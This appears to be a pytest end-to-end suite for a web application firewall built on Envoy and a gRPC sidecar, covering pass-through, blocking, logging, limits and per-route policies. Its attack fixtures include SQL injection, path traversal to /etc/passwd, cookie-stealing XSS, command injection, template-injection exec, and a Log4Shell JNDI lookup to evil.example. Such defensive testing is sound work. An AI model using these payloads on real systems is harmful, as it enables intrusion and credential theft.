"""End to end through a real Envoy, the real sidecar (child process, real gRPC over unix
sockets) and a real upstream. Nothing is mocked."""

from __future__ import annotations

import contextlib
import hashlib
import http.client
import json
import textwrap
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from .stack import Stack, wait_for

POLICIES = """
apiVersion: microgateway.airlock.com/v1alpha1
kind: ContentSecurityPolicy
metadata: {name: custom}
spec:
  secured:
    filter: {denyRulesRef: {name: no-debug}}
---
apiVersion: microgateway.airlock.com/v1alpha1
kind: DenyRules
metadata: {name: no-debug}
spec:
  request:
    custom:
      rules:
        - ruleKey: NO_DEBUG
          blockData: {parameter: {name: {matcher: {exact: debug}}}}
---
apiVersion: microgateway.airlock.com/v1alpha1
kind: ContentSecurityPolicy
metadata: {name: logonly}
spec:
  secured:
    filter: {denyRulesRef: {name: log-only}}
---
apiVersion: microgateway.airlock.com/v1alpha1
kind: DenyRules
metadata: {name: log-only}
spec:
  request:
    builtIn:
      settings: {threatHandlingMode: LogOnly}
"""

ROUTES = [("/custom", "custom"), ("/logonly", "logonly"), ("/open", None), ("/", "default")]


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    tmp = tmp_path_factory.mktemp("e2e")
    policy = tmp / "policies.yaml"
    policy.write_text(POLICIES)
    running = Stack(tmp, [policy], ROUTES).start()
    yield running
    running.stop()


def marker() -> str:
    return uuid.uuid4().hex


def seen_with(stack: Stack, text: str) -> list:
    return [s for s in stack.upstream.seen if text in s.target or text.encode() in s.body]


# -- normal traffic reaches the upstream unchanged --------------------------------------------------


def test_get_reaches_upstream_unchanged(stack: Stack) -> None:
    m = marker()
    with stack.client() as client:
        reply = client.get(f"/shop/items?id={m}&sort=price%20asc", headers={"Accept": "text/html"})
    assert reply.status_code == 200
    echo = reply.json()
    assert echo["method"] == "GET"
    assert echo["path"] == f"/shop/items?id={m}&sort=price%20asc"
    assert len(seen_with(stack, m)) == 1


@pytest.mark.parametrize(
    ("content_type", "body"),
    [
        ("application/x-www-form-urlencoded", b"name=Jane+Doe&city=Z%C3%BCrich&note=MARK"),
        ("application/json", b'{"name": "Jane", "tags": ["a", "b"], "note": "MARK"}'),
        (
            "multipart/form-data; boundary=XyZ",
            b'--XyZ\r\nContent-Disposition: form-data; name="note"\r\n\r\nMARK\r\n'
            b'--XyZ\r\nContent-Disposition: form-data; name="f"; filename="a.bin"\r\n'
            b"Content-Type: application/octet-stream\r\n\r\n\x00\x01\x02 ' OR 1=1 --\r\n--XyZ--\r\n",
        ),
    ],
    ids=["form", "json", "multipart"],
)
def test_bodies_reach_upstream_unchanged(stack: Stack, content_type: str, body: bytes) -> None:
    m = marker()
    body = body.replace(b"MARK", m.encode())
    with stack.client() as client:
        reply = client.post("/api/save", content=body, headers={"Content-Type": content_type})
    assert reply.status_code == 200, reply.text
    echo = reply.json()
    assert echo["method"] == "POST"
    assert echo["body_sha256"] == hashlib.sha256(body).hexdigest()
    assert len(seen_with(stack, m)) == 1


def test_large_upload_beyond_the_buffer_is_streamed_through(stack: Stack) -> None:
    m = marker()
    payload = bytes(range(256)) * (3 * 2**20 // 256)  # 3 MiB file, beyond Envoy's 1 MiB buffer
    body = (
        b"--b0\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n" + m.encode() + b"\r\n"
        b"--b0\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.bin\"\r\n\r\n"
        + payload + b"\r\n--b0--\r\n"
    )  # fmt: skip
    with stack.client() as client:
        reply = client.post(
            "/upload", content=body, headers={"Content-Type": "multipart/form-data; boundary=b0"}
        )
    assert reply.status_code == 200, reply.text
    assert reply.json()["body_sha256"] == hashlib.sha256(body).hexdigest()
    assert len(seen_with(stack, m)) == 1


def test_attack_after_a_large_file_is_blocked(stack: Stack) -> None:
    m = marker()
    payload = b"A" * (2 * 2**20)
    body = (
        b"--b0\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.bin\"\r\n\r\n"
        + payload + b"\r\n--b0\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\n"
        + m.encode() + b"<script>alert(document.cookie)</script>\r\n--b0--\r\n"
    )  # fmt: skip
    with stack.client() as client:
        reply = client.post(
            "/upload", content=body, headers={"Content-Type": "multipart/form-data; boundary=b0"}
        )
    assert reply.status_code == 400
    assert seen_with(stack, m) == []


def _chunked_post(
    stack: Stack, path: str, parts: list[bytes], content_type: str
) -> tuple[int, bytes]:
    connection = http.client.HTTPConnection("127.0.0.1", stack.port, timeout=30)
    try:
        # A blocked request may be answered before the client has sent everything.
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):
            connection.request(
                "POST", path, body=iter(parts), headers={"Content-Type": content_type},
                encode_chunked=True,
            )  # fmt: skip
        reply = connection.getresponse()
        return reply.status, reply.read()
    finally:
        connection.close()


def test_chunked_upload_reaches_upstream(stack: Stack) -> None:
    m = marker()
    parts = [b'{"note": "', m.encode(), b'", "items": [', b"1, 2, 3", b"]}"]
    status, body = _chunked_post(stack, "/api/chunked", parts, "application/json")
    assert status == 200, body
    assert json.loads(body)["body_sha256"] == hashlib.sha256(b"".join(parts)).hexdigest()
    assert len(seen_with(stack, m)) == 1


def test_chunked_attack_is_blocked(stack: Stack) -> None:
    m = marker()
    parts = [b'{"note": "', m.encode(), b'", "q": "1 UNION SELECT password ', b'FROM users --"}']
    status, body = _chunked_post(stack, "/api/chunked", parts, "application/json")
    assert status == 400, body
    assert seen_with(stack, m) == []


# -- attacks are blocked before the upstream --------------------------------------------------------


ATTACKS = {
    "path": ("GET", "/files/..%2f..%2f..%2fetc%2fpasswd?m=MARK", {}, None),
    "query": ("GET", "/search?m=MARK&q=1%27%20UNION%20SELECT%20password%20FROM%20users--", {}, None),
    "form": ("POST", "/login?m=MARK", {"Content-Type": "application/x-www-form-urlencoded"},
             b"user=admin&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    "json": ("POST", "/api?m=MARK", {"Content-Type": "application/json"},
             b'{"cmd": "; cat /etc/passwd"}'),
    "multipart": ("POST", "/up?m=MARK", {"Content-Type": "multipart/form-data; boundary=zz"},
                  b"--zz\r\nContent-Disposition: form-data; name=\"t\"\r\n\r\n{{7*7}}${T(java.lang.Runtime).getRuntime().exec('id')}\r\n--zz--\r\n"),
    "header": ("GET", "/?m=MARK", {"X-Api-Version": "${jndi:ldap://evil.example/a}"}, None),
    "cookie": ("GET", "/?m=MARK", {"Cookie": "session=abc; pref=' OR '1'='1' --"}, None),
}  # fmt: skip


@pytest.mark.parametrize("where", list(ATTACKS))
@pytest.mark.parametrize("http2", [False, True], ids=["http1", "http2"])
def test_attacks_are_blocked_with_400(stack: Stack, where: str, http2: bool) -> None:
    method, path, headers, body = ATTACKS[where]
    m = marker()
    with stack.client(http2=http2) as client:
        reply = client.request(method, path.replace("MARK", m), headers=headers, content=body)
        assert reply.http_version == ("HTTP/2" if http2 else "HTTP/1.1")
    assert reply.status_code == 400, reply.text
    assert seen_with(stack, m) == []
    assert reply.headers["x-request-id"]


def test_http2_requests_pass(stack: Stack) -> None:
    m = marker()
    with stack.client(http2=True) as client:
        reply = client.post("/api/x", json={"note": m})
    assert reply.status_code == 200
    assert reply.http_version == "HTTP/2"
    assert len(seen_with(stack, m)) == 1


@pytest.mark.parametrize(
    ("accept", "content_type"),
    [
        ("application/json", "application/json"),
        ("text/html,application/xhtml+xml,*/*;q=0.8", "text/html; charset=utf-8"),
        ("text/plain", "text/plain; charset=utf-8"),
    ],
)
def test_block_page_follows_accept_and_names_the_request_id(
    stack: Stack, accept: str, content_type: str
) -> None:
    with stack.client() as client:
        reply = client.get("/?q=<script>alert(1)</script>", headers={"Accept": accept})
    assert reply.status_code == 400
    assert reply.headers["content-type"] == content_type
    assert reply.headers["x-request-id"] in reply.text


def test_block_is_logged_with_masked_excerpt_and_counted(stack: Stack) -> None:
    with stack.client() as client:
        reply = client.get("/?q=1%27%20UNION%20SELECT%20password%20FROM%20users--")
    request_id = reply.headers["x-request-id"]
    lines = [x for x in stack.sidecar_lines() if x.get("http.request.id") == request_id]
    assert len(lines) == 1
    line = lines[0]
    assert line["event.action"] == "block"
    assert line["log.level"] == "warn"
    assert line["url.path"] == "/"  # never the query string
    assert line["airlock.deny_rules.matches"][0]["rule_key"] == "SQL"
    assert {"@timestamp", "event.dataset", "http.response.status_code"} <= set(line)
    metrics = stack.metrics()
    assert (
        'microgateway_http_downstream_rq_threats_blocked_total{block_subtype="sql",block_type="deny_rules"}'
        in metrics
    )
    assert "microgateway_engine_processing_seconds_bucket" in metrics
    # Envoy flushes its stdout access log now and then: wait for the line.
    wait_for(lambda: any(x.get("http.request.id") == request_id for x in stack.envoy_access_lines()),
             30, "access log line")  # fmt: skip
    access = [x for x in stack.envoy_access_lines() if x.get("http.request.id") == request_id]
    assert access[0]["http.response.status_code"] == 400
    assert access[0]["url.path"] == "/"


# -- limits ---------------------------------------------------------------------------------------------


def test_json_body_over_its_limit_is_blocked(stack: Stack) -> None:
    m = marker()
    body = json.dumps({"m": m, "blob": "x" * (120 * 2**10)}).encode()
    with stack.client() as client:
        reply = client.post("/api", content=body, headers={"Content-Type": "application/json"})
    assert reply.status_code == 400
    assert seen_with(stack, m) == []


def test_long_path_is_blocked(stack: Stack) -> None:
    with stack.client() as client:
        reply = client.get("/" + "a" * 2000)
    assert reply.status_code == 400


def test_too_many_parameters_are_blocked(stack: Stack) -> None:
    m = marker()
    query = "&".join(f"p{i}=1" for i in range(300))
    with stack.client() as client:
        reply = client.get(f"/?m={m}&{query}")
    assert reply.status_code == 400
    assert seen_with(stack, m) == []


def test_unparsable_body_is_blocked_with_parser_reason(stack: Stack) -> None:
    m = marker()
    with stack.client() as client:
        reply = client.post(
            f"/api?m={m}", content=b'{"a": [1, 2', headers={"Content-Type": "application/json"}
        )
    assert reply.status_code == 400
    assert seen_with(stack, m) == []
    request_id = reply.headers["x-request-id"]
    line = next(x for x in stack.sidecar_lines() if x.get("http.request.id") == request_id)
    assert line["event.reason"] == "PARSER"


# -- per-route policies -------------------------------------------------------------------------------


def test_route_selects_its_policy(stack: Stack) -> None:
    with stack.client() as client:
        assert client.get("/custom/x?debug=1").status_code == 400  # the custom rule
        assert client.get("/other/x?debug=1").status_code == 200  # default: no such rule
        assert client.get("/custom/x?q=<script>alert(1)</script>").status_code == 400


def test_logonly_route_passes_and_logs(stack: Stack) -> None:
    m = marker()
    with stack.client() as client:
        reply = client.get(f"/logonly/x?m={m}&q=<script>alert(1)</script>")
    assert reply.status_code == 200
    assert len(seen_with(stack, m)) == 1
    request_id = reply.json()["headers"]
    rid = next(v for k, v in request_id if k.lower() == "x-request-id")
    line = next(x for x in stack.sidecar_lines() if x.get("http.request.id") == rid)
    assert line["event.action"] == "log"
    assert line["airlock.deny_rules.matches"][0]["mode"] == "LogOnly"


def test_unsecured_route_is_not_filtered(stack: Stack) -> None:
    m = marker()
    with stack.client() as client:
        reply = client.get(f"/open/x?m={m}&q=<script>alert(1)</script>")
    assert reply.status_code == 200
    assert len(seen_with(stack, m)) == 1


def test_policy_file_with_unknown_reference_is_refused(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text(
        textwrap.dedent("""
        apiVersion: microgateway.airlock.com/v1alpha1
        kind: ContentSecurityPolicy
        metadata: {name: x}
        spec: {secured: {filter: {denyRulesRef: {name: missing}}}}
        """)
    )
    import subprocess
    import sys

    out = subprocess.run(
        [sys.executable, "-m", "airlock_microgateway", "sidecar", "--socket-dir",
         str(tmp_path / "s"), "--policy", str(bad)],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert out.returncode == 2
    assert "DenyRules 'missing' not found" in out.stderr
